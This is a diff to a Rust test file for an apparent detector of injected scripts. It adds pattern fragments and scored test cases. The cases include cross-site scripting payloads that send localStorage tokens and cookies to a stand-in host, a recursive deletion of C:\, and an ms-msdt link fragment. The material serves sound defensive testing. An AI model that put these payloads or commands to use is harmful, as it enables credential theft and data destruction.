@@ -49,6 +49,12 @@ const PIECES: &[&str] = &[
     "VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
     "the user is ill and said so",
     "<img src=",
+    "<svg onload=",
+    "<iframe srcdoc=\"<script>",
+    " onerror='alert(document.domain)'",
+    "+localStorage.token",
+    "Remove-Item -Recurse C:\\",
+    "](ms-msdt:/id",
     "<img srcset=\"",
     "<a href='",
     "<link href=",
@@ -366,4 +372,34 @@ fn nobody_acts_on_what_a_person_asks() {
     };
     assert_eq!([Channel::System, Channel::User].map(families), [0, 0]);
     assert_eq!([Channel::Document, Channel::ToolOutput, Channel::Model].map(families), [2, 2, 2]);
+}
+
+/// Scripts in attributes of tags, what they take with them, and handlers that only change what is shown.
+#[test]
+fn handlers_and_pages_in_tags_are_scripts() {
+    let score = |text: &str| {
+        let found = ENGINE.inspect(Channel::Model, text);
+        let own = found.iter().filter(|f| f.category.as_str() == "egress/script");
+        own.map(|f| f.score).max()
+    };
+    for (text, percent) in [
+        ("<img src=x onerror=alert(document.domain)>", 60),
+        ("<svg onload=alert(1)>", 60),
+        ("<svg/onload=alert`1`>", 60),
+        ("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", 75),
+        ("<a onclick=\"location='https://e.example/?c='+localStorage.token\">more</a>", 85),
+        ("<body ONLOAD='fetch(\"//e.example/\"+document.cookie)'>", 85),
+    ] {
+        assert_eq!(score(text), Some(Score::percent(percent)), "{text}");
+    }
+    for text in [
+        "<button onclick=\"save()\">Save</button>",
+        "<img src=\"a.png\" onerror=\"this.src='fallback.png'\">",
+        "<body onload=\"init()\">",
+        "<iframe srcdoc=\"<p>hello</p>\"></iframe>",
+        "<p one=\"alert(1)\" title='onload=alert(1)'>",
+        "addEventListener('load', () => alert(1))",
+    ] {
+        assert_eq!(score(text), None, "{text}");
+    }
 }
